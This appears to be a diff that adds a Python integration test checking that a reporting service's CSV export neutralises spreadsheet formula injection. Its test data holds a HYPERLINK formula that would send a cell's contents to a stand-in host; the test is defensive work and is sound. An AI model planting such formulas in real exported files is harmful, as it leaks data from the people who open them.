@@ -2,6 +2,9 @@
 too big, a NUL character, a number past its column, a header stuffed with entries. Each
 gets a clear 4xx and leaves no event behind (real PostgreSQL and Kafka)."""
 
+import asyncio
+import csv
+import io
 import json
 import unicodedata
 import uuid
@@ -274,3 +277,30 @@ async def test_a_name_is_kept_in_nfc_and_one_of_invisible_characters_only_is_ref
     kept = (await registry.get(f"/sponsor-units/{made.json()['id']}")).json()
     assert kept["name"] == unicodedata.normalize("NFC", decomposed)
     assert kept["name"] != decomposed
+
+
+async def test_a_formula_written_as_a_description_downloads_as_text(
+    activities: httpx.AsyncClient, reporting: httpx.AsyncClient, demo: Tally
+) -> None:
+    """A clerk's description that a spreadsheet would run: recorded as written, and in
+    the downloaded list of a figure's activities it starts with `'`, never as a formula;
+    a file format that does not exist is a 422."""
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
+    recorded = await activities.post(
+        "/activities", json=by_name(description=formula, occurred_on="2024-10-22")
+    )
+    assert recorded.status_code == 201, recorded.text
+    path = "/reports/provinces/60/activities"
+    year: dict[str, str | int] = {"year": 2024, "category": "gifts_in_kind"}
+    for _attempt in range(150):  # until the reporting service has counted it
+        listed = (await reporting.get(path, params=year)).json()
+        if any(a["activity_id"] == recorded.json()["id"] for a in listed):
+            break
+        await asyncio.sleep(0.2)
+    as_csv = await reporting.get(path, params={**year, "format": "csv"})
+    unknown = await reporting.get(path, params={**year, "format": "exe"})
+
+    [row] = [r for r in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig")))
+             if recorded.json()["id"] in r]  # fmt: skip
+    assert row[4] == "'" + formula
+    assert unknown.status_code == 422
